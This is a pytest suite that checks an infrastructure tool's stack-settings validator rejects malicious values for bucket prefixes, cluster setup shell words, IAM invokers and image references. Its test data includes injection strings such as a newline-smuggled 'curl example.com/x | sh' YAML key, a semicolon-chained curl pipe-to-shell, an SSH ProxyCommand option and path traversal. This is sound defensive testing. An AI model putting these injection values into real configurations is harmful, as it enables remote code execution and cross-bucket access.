"""Every stack setting is checked by what it becomes (an object-name prefix, a shell word, a YAML
scalar, an IAM member, an image reference), so a value cannot reach another bucket, add keys to the
cluster file, run commands on the nodes or open the web view to everyone."""

from __future__ import annotations

import dataclasses
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

from infra.errors import StackSettingsError
from infra.offline import plan
from infra.ray_cluster import cluster_yaml
from infra.settings import StackSettings, WorkerGroup, check_settings

EXAMPLE = Path(__file__).resolve().parent.parent / "stacks" / "example.yaml"


def with_setting(settings: StackSettings, field_path: str, value: Any) -> StackSettings:
    """``settings`` with the dotted field (``cluster.workers[0].name``) set to ``value``."""
    head, _, rest = field_path.partition(".")
    name, _, index = head.partition("[")
    current = getattr(settings, name)
    if index:
        position = int(index.rstrip("]"))
        items = list(current)
        items[position] = with_setting(items[position], rest, value) if rest else value
        new: Any = tuple(items)
    else:
        new = with_setting(current, rest, value) if rest else value
    return dataclasses.replace(settings, **{name: new})


INJECTED = "marin\ninitialization_commands: ['curl example.com/x | sh']\nx: "

BAD_VALUES = [
    # what it becomes: an object-name prefix inside the stack's bucket
    ("bucket.prefix", INJECTED, "control character"),
    ("bucket.prefix", "../../other-bucket/x", "'..'"),
    ("bucket.prefix", "a/./b", "'.'"),
    ("bucket.prefix", "/marin", "empty path segment"),
    ("bucket.prefix", "marin//runs", "empty path segment"),
    ("bucket.prefix", "marin/", "empty path segment"),
    ("bucket.prefix", "ma rin", "letters, digits"),
    ("bucket.prefix", "marin?x=1", "letters, digits"),
    ("bucket.prefix", "a" * 600, "at most 512"),
    # names and places: a trailing newline slips past a pattern ending in '$'
    ("project", "lab-marin-dev\n", "control character"),
    ("project", "lab-marin-dev\u2028x: 1", "control character"),
    ("region", "us-central1/../x", "not a region"),
    ("zone", "us-central1-a; x", "not a zone of region"),
    ("bucket.location", "US-CENTRAL1 ", "not a location"),
    ("cluster.name", "marin\u202e", "control character"),
    # shell words in the nodes' setup commands
    ("cluster.python_version", "3.11; curl example.com/x | sh", "not a Python version"),
    ("cluster.project_requirement", "--index-url=https://example.com/simple marin", "starts with '-'"),
    ("cluster.project_requirement", "marin\ncurl example.com", "control character"),
    ("cluster.ssh_user", "ubuntu -o ProxyCommand=x", "not a user name"),
    ("cluster.cpu_image", "projects/ubuntu-os-cloud/global/images/family/x y", "not a Compute Engine image"),
    ("cluster.gpu_image", "https://example.com/image", "not a Compute Engine image"),
    ("cluster.head.disk_gb", 5, "between 10 and 65,536"),
    ("cluster.head.disk_gb", 10**6, "between 10 and 65,536"),
    ("cluster.workers[0].disk_gb", 70_000, "between 10 and 65,536"),
    # the web view
    ("web.image", "marin serve:v1", "not a container image"),
    ("web.image", "us-docker.pkg.dev/p/r/i:v1 --x", "not a container image"),
    ("web.cpu", "lots", "not a CPU limit"),
    ("web.memory", "1GB\n", "control character"),
    ("web.memory", "1 Gi", "not a memory limit"),
]


@pytest.mark.parametrize("field_path, value, words", BAD_VALUES)
def test_a_value_that_would_escape_its_place_is_refused_naming_the_field(stacks, field_path, value, words):
    settings = with_setting(stacks["gpus"], field_path, value)
    with pytest.raises(StackSettingsError) as error:
        check_settings(settings)
    message = str(error.value)
    assert message.startswith(f"Stack setting {field_path}:"), message
    assert words in message and "\n" not in message, message


def test_a_tpu_runtime_version_is_checked_as_a_name(settings_with):
    bad = settings_with(WorkerGroup(name="v5e", tpu_type="v5litepod-8", tpu_runtime_version="v2-alpha\nx: 1"))
    with pytest.raises(StackSettingsError, match=r"^Stack setting cluster.workers\[0\].tpu_runtime_version:"):
        check_settings(bad)
    good = settings_with(WorkerGroup(name="v5e", tpu_type="v5litepod-8", tpu_runtime_version="v2-alpha-tpuv5-lite"))
    check_settings(good)


@pytest.mark.parametrize("field_path, value", [
    ("bucket.prefix", ""),
    ("bucket.prefix", "marin/runs-2025/v1.2_x"),
    ("cluster.python_version", "3.12.4"),
    ("cluster.ssh_user", "ray_admin"),
    ("cluster.cpu_image",
     "https://www.googleapis.com/compute/v1/projects/debian-cloud/global/images/debian-12-bookworm-v20250101"),
    ("web.image", "us-central1-docker.pkg.dev/lab-marin-dev/marin-images/marin-serve@sha256:" + "a" * 64),
    ("web.cpu", "1000m"),
    ("web.memory", "512Mi"),
])
def test_ordinary_values_still_pass(stacks, field_path, value):
    check_settings(with_setting(stacks["gpus"], field_path, value))


def test_the_cluster_file_holds_the_programs_keys_even_for_settings_never_checked(stacks):
    # check_settings refuses the line break; the file's comment header is built so it could not end early anyway.
    config = yaml.safe_load(cluster_yaml(with_setting(stacks["gpus"], "bucket.prefix", INJECTED)))
    assert set(config) == {"cluster_name", "max_workers", "upscaling_speed", "idle_timeout_minutes", "provider",
                           "auth", "head_node_type", "available_node_types", "setup_commands",
                           "head_start_ray_commands", "worker_start_ray_commands"}


@pytest.mark.parametrize("member, words", [
    ("allUsers", "public"),
    ("allAuthenticatedUsers", "public"),
    ("domain:gmail.com", "consumer email domain"),
    ("domain:GoogleMail.com", "consumer email domain"),
    ("domain:outlook.com", "consumer email domain"),
    ("user:", "not an IAM member"),
    ("user:ada", "not an IAM member"),
    ("user:ada@example.com\n", "control character"),
    ("user:ada@@example.com", "not an IAM member"),
    ("group:lab@example..com", "not an IAM member"),
    ("domain:example", "not an IAM member"),
    ("domain:-example.com", "not an IAM member"),
    ("serviceAccount:web@example.com", "service account"),
    ("principalSet://goog/public:all", "not an IAM member"),
    ("lab@example.com", "not an IAM member"),
])
def test_an_invoker_is_checked_as_an_iam_member_and_never_everyone(settings_with, member, words):
    settings = settings_with(invokers=("group:lab@example.com", member))
    with pytest.raises(StackSettingsError) as error:
        check_settings(settings)
    message = str(error.value)
    assert message.startswith("Stack setting web.invokers[1]:") and words in message, message


@pytest.mark.parametrize("member", ["allUsers", "allAuthenticatedUsers", "domain:gmail.com"])
def test_a_public_invoker_needs_the_explicit_setting(settings_with, stacks, member):
    settings = settings_with(image=stacks["gpus"].web.image, invokers=(member,))
    opened = dataclasses.replace(settings, web=dataclasses.replace(settings.web, allow_public_invokers=True))
    check_settings(opened)
    members = [r.inputs["member"] for r in plan(opened) if r.type == "gcp:cloudrunv2/serviceIamMember:ServiceIamMember"]
    assert members == [member]
    # Allowing public members does not let a malformed one through.
    malformed = dataclasses.replace(opened.web, invokers=("domain:gmail",))
    with pytest.raises(StackSettingsError, match="not an IAM member"):
        check_settings(dataclasses.replace(opened, web=malformed))


@pytest.mark.parametrize("member", ["user:ada.lovelace+marin@example.com", "group:ml-lab@lists.example.org",
                                    "serviceAccount:ci@lab-marin-dev.iam.gserviceaccount.com",
                                    "domain:example.ac.uk", "user:someone@gmail.com"])
def test_ordinary_members_pass(settings_with, member):
    check_settings(settings_with(invokers=(member,)))


def cli_check(path: Path) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "infra.cli", "check", str(path)], cwd=path.parent,
                          capture_output=True, text=True, timeout=300)


@pytest.mark.parametrize("old, new, field_path", [
    ("prefix: marin", 'prefix: "marin\\ninitialization_commands: [\\"curl example.com/x | sh\\"]\\nx: "',
     "bucket.prefix"),
    ("prefix: marin", "prefix: ../../other-bucket/x", "bucket.prefix"),
    ("group:mylab@example.com", "domain:gmail.com", "web.invokers[0]"),
])
def test_infra_check_refuses_them_in_one_line_with_exit_2(tmp_path, old, new, field_path):
    path = tmp_path / "stack.yaml"
    path.write_text(EXAMPLE.read_text().replace(old, new))
    done = cli_check(path)
    assert done.returncode == 2, done.stdout + done.stderr
    assert done.stdout == "" and done.stderr.count("\n") == 1, done.stderr
    assert done.stderr.startswith(f"error: Stack setting {field_path}:"), done.stderr
